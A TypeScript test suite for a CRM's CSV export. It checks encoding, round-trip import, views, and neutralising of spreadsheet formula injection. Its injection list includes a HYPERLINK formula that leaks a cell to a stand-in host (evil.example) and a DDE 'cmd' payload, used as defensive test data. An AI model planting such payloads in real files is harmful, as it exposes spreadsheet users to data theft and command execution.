import { guardFormula, joinAirtableList } from '@crm/domain';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import Papa from 'papaparse';
import { apiSuite } from '../support/api-suite';
import { baseIds, createMember } from '../support/test-app';
import { commitOk, fixture, uploadOk } from '../support/imports';

/** Parses an export the way a spreadsheet program's CSV reader does (RFC 4180). */
function readCsv(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), {
    delimiter: ',',
    newline: '\r\n',
    skipEmptyLines: true,
  });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1',
  '＝1+1',
];

describe('CSV export', () => {
  const t = apiSuite();
  let ids: Awaited<ReturnType<typeof baseIds>>;
  beforeAll(async () => {
    ids = await baseIds(t);
  });

  const exportTable = async (tableId: string) => {
    const res = await t
      .http()
      .get(`/api/fundraising/tables/${tableId}/export.csv`)
      .buffer(true)
      .parse((r, cb) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => cb(null, Buffer.concat(chunks)));
      })
      .expect(200);
    return { res, bytes: res.body as Buffer, text: (res.body as Buffer).toString('utf8') };
  };

  it('writes RFC 4180 with a UTF-8 byte-order mark, CRLF, and the table’s default view order', async () => {
    const session = await uploadOk(t, fixture('airtable-investors.csv'), {
      table_id: ids.investors,
      merge_fields: '["Name"]',
    });
    await commitOk(t, session.id);
    const { res, bytes, text } = await exportTable(ids.investors);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="Investors.csv"/);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.split('\r\n')[0].startsWith('\uFEFFName,Type,Status,Pipeline stage')).toBe(true);
    const rows = readCsv(text);
    const header = rows[0];
    const acme = rows.find((r) => r[0] === 'Acme Family Office')!;
    const col = (name: string) => acme[header.indexOf(name)];
    expect(col('Target commitment')).toBe('$5,000,000');
    expect(col('Anchor LP')).toBe('checked');
    expect(col('Last contacted')).toBe('2026-01-31');
    expect(col('Tags')).toBe('Warm intro,Anchor');
    expect(col('Notes')).toBe(
      'Met at the AGM in London.\nWants quarterly reporting, "full transparency" and a seat on the LPAC.',
    );
    expect(col('Pitch deck')).toBe(
      'Acme deck.pdf (https://dl.airtable.com/.attachments/a1/acme-deck.pdf)',
    );
    expect(col('Phone')).toBe("'+44 20 7946 0958");
  });

  it('prefixes every cell a spreadsheet would run as a formula, and leaves numbers alone', async () => {
    const amount = ids.inv('target_commitment');
    const changes = INJECTIONS.map((text, i) => ({
      op: 'create',
      table_id: ids.investors,
      values: {
        [ids.inv('name')]: `Injection ${i}`,
        [ids.inv('notes')]: text,
        [amount]: -(i + 1) * 1000,
      },
    }));
    await t.http().post('/api/fundraising/changes').send({ changes }).expect(200);
    const { text } = await exportTable(ids.investors);
    const rows = readCsv(text);
    const header = rows[0];
    for (const [i, injected] of INJECTIONS.entries()) {
      const row = rows.find((r) => r[0] === `Injection ${i}`)!;
      expect(row[header.indexOf('Notes')]).toBe(`'${injected}`);
      expect(row[header.indexOf('Target commitment')]).toBe(
        `-$${((i + 1) * 1000).toLocaleString('en-US')}`,
      );
    }
    // Quoted in the file too, so a reader that trims or splits naively still sees one text cell.
    expect(text).toContain("\"'=cmd|' /C calc'!A0\"");
    expect(text).toContain(`"'+1+1"`);
  });

  it('writes formula results by their type, guarding text ones', async () => {
    await t
      .http()
      .post(`/api/fundraising/tables/${ids.investors}/fields`)
      .send({
        name: 'Twice target',
        type: 'formula',
        options: { formula: '{Target commitment} * 2' },
      })
      .expect(201);
    await t
      .http()
      .post(`/api/fundraising/tables/${ids.investors}/fields`)
      .send({ name: 'Label', type: 'formula', options: { formula: '"=" & {Name}' } })
      .expect(201);
    const rows = readCsv((await exportTable(ids.investors)).text);
    const acme = rows.find((r) => r[0] === 'Acme Family Office')!;
    expect(acme[rows[0].indexOf('Twice target')]).toBe('10000000');
    expect(acme[rows[0].indexOf('Label')]).toBe("'=Acme Family Office");
  });

  it('guards a field name too', async () => {
    const res = await t
      .http()
      .post('/api/fundraising/tables')
      .send({
        name: 'Odd headers',
        fields: [
          { name: 'Name', type: 'text' },
          { name: '=1+2', type: 'number' },
        ],
      })
      .expect(201);
    const { text } = await exportTable(res.body.table.id);
    expect(readCsv(text)[0]).toEqual(['Name', "'=1+2"]);
  });

  it('imports back with a merge key and changes nothing', async () => {
    const { bytes } = await exportTable(ids.investors);
    const session = await uploadOk(
      t,
      bytes,
      { table_id: ids.investors, merge_fields: '["Name"]' },
      'Investors.csv',
    );
    expect(session.plan).toMatchObject({ create: 0, update: 0, errors: [] });
    expect(session.plan.unchanged).toBe(5 + INJECTIONS.length);
    const before = t.core.store.lastPosition();
    expect(await commitOk(t, session.id)).toMatchObject({ created: 0, updated: 0 });
    expect(t.core.store.lastPosition()).toBe(before);
  });

  it('round-trips linked records whose names hold commas and quotes', async () => {
    await commitOk(
      t,
      (
        await uploadOk(
          t,
          fixture('airtable-contacts.csv'),
          { table_id: ids.contacts, merge_fields: '["Email"]' },
          'contacts.csv',
        )
      ).id,
    ).catch(() => undefined);
    const again = await uploadOk(
      t,
      fixture('airtable-contacts.csv'),
      { table_id: ids.contacts, merge_fields: '["Email"]' },
      'contacts.csv',
    );
    await t
      .http()
      .patch(`/api/fundraising/imports/${again.id}`)
      .send({ options: { create_missing_links: true } })
      .expect(200);
    await commitOk(t, again.id);
    const { bytes, text } = await exportTable(ids.contacts);
    const rows = readCsv(text);
    const bea = rows.find((r) => r[0] === 'Bea Best')!;
    expect(bea[rows[0].indexOf('Investor')]).toBe(
      '"The ""Best"" Fund of Funds",Acme Family Office',
    );
    const back = await uploadOk(
      t,
      bytes,
      { table_id: ids.contacts, merge_fields: '["Email"]' },
      'Contacts.csv',
    );
    expect(back.plan).toMatchObject({ create: 0, update: 0, errors: [] });
  });

  it('quotes a value whose only special character is a line feed: as many rows as X-Row-Count, and it imports back unchanged', async () => {
    const res = await t
      .http()
      .post('/api/fundraising/tables')
      .send({
        name: 'Line feeds',
        fields: [
          { name: 'Name', type: 'text' },
          { name: 'Notes', type: 'long_text' },
        ],
      })
      .expect(201);
    const table = res.body.table as { id: string; fields: { id: string }[] };
    const [name, notes] = table.fields.map((f) => f.id);
    const values = [
      ['Acme', 'Met at the AGM\nWants quarterly reporting'],
      ['Zeta', 'one\rtwo'],
      ['Smith', 'line\r\nbreak'],
    ];
    await t
      .http()
      .post('/api/fundraising/changes')
      .send({
        changes: values.map(([n, v]) => ({
          op: 'create',
          table_id: table.id,
          values: { [name]: n, [notes]: v },
        })),
      })
      .expect(200);
    const { res: got, bytes } = await exportTable(table.id);
    // A reader that ends a row at any unquoted line break, as spreadsheets do.
    const rows = parse(bytes, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
    expect(rows).toHaveLength(1 + Number(got.headers['x-row-count']));
    expect(rows).toEqual([['Name', 'Notes'], ...values]);
    const back = await uploadOk(
      t,
      bytes,
      { table_id: table.id, merge_fields: '["Name"]' },
      'Line feeds.csv',
    );
    expect(back.plan).toMatchObject({ create: 0, update: 0, unchanged: 3, errors: [] });
  });

  it('writes a NUL stored before writes refused it so that the file imports back, matching its record', async () => {
    const res = await t
      .http()
      .post('/api/fundraising/tables')
      .send({
        name: 'Legacy NUL',
        fields: [
          { name: 'Name', type: 'text' },
          { name: 'Notes', type: 'long_text' },
        ],
      })
      .expect(201);
    const table = res.body.table as { id: string; fields: { id: string }[] };
    const [name, notes] = table.fields.map((f) => f.id);
    // As an older version stored it: straight into the log, past today's refusal.
    const recordId = 'recLegacyNul0001';
    // With its inline projections, in one transaction, as the command executor appends.
    await t.core.uow.write(async () => {
      const { events } = t.core.store.append(
        [
          {
            stream_id: `record-${recordId}`,
            expected_version: 0,
            events: [
              {
                type: 'RecordCreated',
                data: {
                  table_id: table.id,
                  record_id: recordId,
                  values: { [name]: 'Acme\u0000 LP', [notes]: 'a\u0000b' },
                },
              },
            ],
          },
        ],
        {
          metadata: {
            actor_id: t.adminId,
            actor_name: 'Ada Admin',
            correlation_id: 'cor_legacy_nul',
            causation_id: null,
            source: 'api',
          },
          recorded_at: new Date().toISOString(),
          event_ids: ['evt_legacy_nul_1'],
        },
      );
      await t.core.runner.applyInline(events);
    });
    expect(t.core.repo.record(recordId)!.values[notes]).toBe('a\u0000b');
    const { bytes, text } = await exportTable(table.id);
    expect(text).not.toContain('\u0000');
    expect(readCsv(text)).toEqual([
      ['Name', 'Notes'],
      ['Acme LP', 'ab'],
    ]);
    // Accepted, and matched to its record by name: the plan shows the NUL going, never a second Acme.
    const back = await uploadOk(
      t,
      bytes,
      { table_id: table.id, merge_fields: '["Name"]' },
      'Legacy NUL.csv',
    );
    expect(back.plan).toMatchObject({ create: 0, update: 1, errors: [] });
  });

  it('round-trips generated rows holding every awkward character: a strict parser reads the same values, and the import changes nothing', async () => {
    const AWKWARD = [
      '\r',
      '\n',
      '\r\n',
      '"',
      ',',
      ';',
      '\t',
      '|',
      ' ',
      "'",
      '=',
      '+',
      '-',
      '@',
      'é',
      'e\u0301',
      '😀',
      '👩‍💻',
      '\u00a0',
      'a',
      'Z',
      '1',
    ];
    const text = (maxLength: number) =>
      fc
        .string({
          unit: fc.oneof(
            fc.constantFrom(...AWKWARD),
            fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
          ),
          maxLength,
        })
        .filter((s) => !s.includes('\u0000'));
    const choice = text(8)
      .map((s) => s.trim())
      .filter((s) => s !== '');
    const keyOf = (s: string) => s.normalize('NFC').trim();
    const generated = fc.record({
      choices: fc.uniqueArray(choice, { minLength: 1, maxLength: 5 }),
      rows: fc.uniqueArray(
        fc.record({
          name: text(10).filter((s) => keyOf(s) !== ''),
          notes: text(20),
          tags: fc.array(fc.nat(4), { maxLength: 3 }),
          amount: fc.integer({ min: -1e9, max: 1e9 }).map((n) => n / 100),
        }),
        { minLength: 1, maxLength: 8, selector: (r) => keyOf(r.name) },
      ),
    });
    let run = 0;
    await fc.assert(
      fc.asyncProperty(generated, async ({ choices, rows }) => {
        run++;
        const res = await t
          .http()
          .post('/api/fundraising/tables')
          .send({
            name: `Awkward ${run}`,
            fields: [
              { name: 'Name', type: 'text' },
              { name: 'Notes', type: 'long_text' },
              {
                name: 'Tags',
                type: 'multiple_select',
                options: { choices: choices.map((name) => ({ name })) },
              },
              { name: 'Amount', type: 'currency' },
            ],
          })
          .expect(201);
        const table = res.body.table as { id: string; fields: { id: string }[] };
        const [name, notes, tags, amount] = table.fields.map((f) => f.id);
        const tagsOf = (r: (typeof rows)[number]) => [
          ...new Set(r.tags.filter((i) => i < choices.length).map((i) => choices[i])),
        ];
        await t
          .http()
          .post('/api/fundraising/changes')
          .send({
            changes: rows.map((r) => ({
              op: 'create',
              table_id: table.id,
              values: { [name]: r.name, [notes]: r.notes, [tags]: tagsOf(r), [amount]: r.amount },
            })),
          })
          .expect(200);

        const { res: got, bytes } = await exportTable(table.id);
        const parsed = parse(bytes, {
          bom: true,
          record_delimiter: ['\r\n', '\n', '\r'],
          relax_column_count: false,
        }) as string[][];
        expect(parsed).toHaveLength(1 + Number(got.headers['x-row-count']));
        expect(parsed[0]).toEqual(['Name', 'Notes', 'Tags', 'Amount']);
        expect(parsed.slice(1).map((r) => r.slice(0, 3))).toEqual(
          rows.map((r) => [
            guardFormula(r.name),
            guardFormula(r.notes),
            guardFormula(joinAirtableList(tagsOf(r))),
          ]),
        );

        const back = await uploadOk(
          t,
          bytes,
          { table_id: table.id, merge_fields: '["Name"]' },
          `Awkward ${run}.csv`,
        );
        expect(back.plan).toMatchObject({
          create: 0,
          update: 0,
          unchanged: rows.length,
          errors: [],
          new_choices: [],
        });
        const before = t.core.store.lastPosition();
        expect(await commitOk(t, back.id)).toMatchObject({ created: 0, updated: 0 });
        expect(t.core.store.lastPosition()).toBe(before);
      }),
      { numRuns: 25 },
    );
  }, 120_000);

  describe('a table of every field type, with awkward names, choices and links', () => {
    let table: { id: string; fields: { id: string; name: string }[] };
    const f = (name: string) => table.fields.find((x) => x.name === name)!.id;

    beforeAll(async () => {
      const targets = (
        await t
          .http()
          .post('/api/fundraising/tables')
          .send({ name: 'Targets', fields: [{ name: 'Name', type: 'text' }] })
          .expect(201)
      ).body.table;
      const names = [
        '=Evil Corp',
        "'=Quoted",
        'Smith, Jones & Co',
        'The "Best" Fund',
        ' Spaced ',
        'Twin',
        'Twin',
        '',
        '-minus',
      ];
      const made = await t
        .http()
        .post('/api/fundraising/changes')
        .send({
          changes: names.map((n) => ({
            op: 'create',
            table_id: targets.id,
            values: n ? { [targets.fields[0].id]: n } : {},
          })),
        })
        .expect(200);
      const rec = (made.body.applied as { record_id: string }[]).map((a) => a.record_id);
      const choices = [
        'Lead',
        '=Formula',
        "'=Guarded",
        '-dash',
        'Smith, Jones',
        'The "Q"',
        '@at',
        'Trail ',
        ' Lead',
      ];
      // Made through the API: the table has no default view.
      table = (
        await t
          .http()
          .post('/api/fundraising/tables')
          .send({
            name: 'Every type',
            fields: [
              { name: 'Name', type: 'text' },
              { name: 'Long', type: 'long_text' },
              { name: 'Num', type: 'number', options: { precision: 2 } },
              { name: 'Euro', type: 'currency', options: { symbol: '€', precision: 2 } },
              { name: 'CHF', type: 'currency', options: { symbol: 'CHF ', precision: 0 } },
              { name: 'Pct', type: 'percent', options: { precision: 1 } },
              { name: 'Date', type: 'date' },
              { name: 'When', type: 'date_time' },
              { name: 'Box', type: 'checkbox' },
              { name: 'One', type: 'single_select', options: { choices } },
              { name: 'Many', type: 'multiple_select', options: { choices } },
              { name: 'Email', type: 'email' },
              { name: 'Url', type: 'url' },
              { name: 'Phone', type: 'phone' },
              { name: 'Link', type: 'link', options: { table_id: targets.id } },
              { name: 'Files', type: 'attachment' },
            ],
          })
          .expect(201)
      ).body.table;
      const rows: Record<string, unknown>[] = [
        {
          Name: 'r1',
          Long: '  indented\nline two  ',
          Num: 0.1 + 0.2,
          Euro: -1234.5,
          CHF: 1_000_000,
          Pct: 0.125,
          Date: '2026-02-28',
          When: '2026-03-29T01:30:00.000Z',
          Box: true,
          One: '=Formula',
          Many: ['Smith, Jones', 'The "Q"', '=Formula'],
          Email: 'Ann@X.example',
          Url: 'https://a.example/x?y=1,2',
          Phone: '+41 44 000 00 00',
          Link: [rec[2], rec[3]],
          Files: [{ filename: 'deck (v2), final.pdf', url: 'https://x.example/a.pdf' }],
        },
        {
          Name: "'=already",
          Long: "'- bullet",
          Num: 1e21,
          Euro: 0,
          CHF: -5,
          Date: '1999-12-31',
          When: '2026-12-31T23:59:59.999Z',
          One: "'=Guarded",
          Many: ["'=Guarded", '-dash'],
          Link: [rec[0], rec[1], rec[4]],
        },
        {
          Name: '-5',
          Long: '=1+1',
          Num: -0.000001,
          Euro: 12_345_678.9,
          One: 'Trail ',
          Many: [' Lead', '@at', 'Trail '],
          Link: [rec[1], rec[5], rec[6], rec[7], rec[8]],
        },
        {
          Name: 'tab\tinside',
          Long: '"',
          Num: 123_456_789.123,
          One: ' Lead',
          Many: ['Lead'],
          Link: [rec[8]],
        },
      ];
      await t
        .http()
        .post('/api/fundraising/changes')
        .send({
          changes: rows.map((r) => ({
            op: 'create',
            table_id: table.id,
            values: Object.fromEntries(Object.entries(r).map(([k, v]) => [f(k), v])),
          })),
        })
        .expect(200);
    });

    const importsBackUnchanged = async (bytes: Buffer, rows: number) => {
      const back = await uploadOk(
        t,
        bytes,
        { table_id: table.id, merge_fields: '["Name"]' },
        'Every type.csv',
      );
      expect(back.plan).toMatchObject({
        create: 0,
        update: 0,
        unchanged: rows,
        errors: [],
        new_choices: [],
        unmatched_links: [],
      });
      const before = t.core.store.lastPosition();
      expect(await commitOk(t, back.id)).toMatchObject({ created: 0, updated: 0 });
      expect(t.core.store.lastPosition()).toBe(before);
    };

    it('exports the whole table when it has no default view, whatever views others made, and it imports back with no change', async () => {
      const member = await createMember(t);
      const slim = {
        hidden_fields: [f('Long'), f('Many')],
        filters: {
          conjunction: 'and',
          conditions: [{ field_id: f('Num'), operator: '>', value: 1 }],
        },
      };
      await member
        .http()
        .post('/api/fundraising/views')
        .send({ table_id: table.id, name: 'Mine', personal: true, config: slim })
        .expect(201);
      await t
        .http()
        .post('/api/fundraising/views')
        .send({ table_id: table.id, name: 'Shared', config: slim })
        .expect(201);
      const { res, bytes } = await exportTable(table.id);
      const rows = parse(bytes, { bom: true }) as string[][];
      expect(rows[0]).toEqual(table.fields.map((x) => x.name));
      expect(rows).toHaveLength(5);
      expect(res.headers['x-row-count']).toBe('4');
      await importsBackUnchanged(bytes, 4);
    });

    it('exports a view without its hidden fields and filtered rows, and that file imports back with no change either', async () => {
      const views = (await t.http().get(`/api/fundraising/views?table_id=${table.id}`).expect(200))
        .body.views as { id: string; name: string }[];
      const shared = views.find((v) => v.name === 'Shared')!;
      const res = await t.http().get(`/api/fundraising/views/${shared.id}/export.csv`).expect(200);
      const rows = readCsv(res.text);
      expect(rows[0]).not.toContain('Long');
      expect(rows[0]).not.toContain('Many');
      expect(rows.slice(1).map((r) => r[0])).toEqual(["''=already", 'tab\tinside']);
      await importsBackUnchanged(Buffer.from(res.text, 'utf8'), 2);
    });
  });

  it('exports a view with its own field order and hidden fields, and 404s for an unknown one', async () => {
    const fields = t.core.repo.table(ids.investors)!.fields;
    const order = [ids.inv('name'), ids.inv('target_commitment'), ids.inv('stage')];
    const config = {
      field_order: order,
      hidden_fields: fields.filter((f) => !order.includes(f.id)).map((f) => f.id),
      filters: {
        conjunction: 'and',
        conditions: [{ field_id: ids.inv('target_commitment'), operator: '>', value: 1_000_000 }],
      },
      sorts: [{ field_id: ids.inv('target_commitment'), direction: 'desc' }],
    };
    const view = await t
      .http()
      .post('/api/fundraising/views')
      .send({ table_id: ids.investors, name: 'Pipeline', config })
      .expect(201);
    const res = await t
      .http()
      .get(`/api/fundraising/views/${view.body.view.id}/export.csv`)
      .expect(200);
    expect(res.headers['content-disposition']).toMatch(/filename="Investors - Pipeline.csv"/);
    expect(readCsv(res.text)).toEqual([
      ['Name', 'Target commitment', 'Pipeline stage'],
      ['Zeta Pension', '$20,000,000', 'Passed'],
      ['Northwind Endowment', '$10,000,000', 'Engaged'],
      ['Acme Family Office', '$5,000,000', 'Committed'],
      ['Smith, Jones & Co', '$1,250,000', 'Diligence'],
    ]);
    await t.http().get('/api/fundraising/views/viwNope/export.csv').expect(404);
    await t.http().get('/api/fundraising/tables/tblNope/export.csv').expect(404);
    await t.anon().get(`/api/fundraising/tables/${ids.investors}/export.csv`).expect(401);
  });
});
